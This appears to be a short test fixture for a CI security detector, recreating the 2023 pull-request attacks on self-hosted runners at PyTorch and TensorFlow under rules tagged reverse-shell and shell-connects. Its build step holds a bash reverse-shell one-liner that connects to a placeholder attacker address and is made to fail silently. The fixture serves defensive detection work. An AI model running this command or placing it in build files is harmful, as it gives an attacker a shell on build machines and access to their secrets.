# incident: Pull requests against self-hosted runners (PyTorch, TensorFlow), 2023
# what: the build of a pull request hands a shell to somebody
# rule: reverse-shell, shell-connects
## step: Build
timeout 10 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1' || true
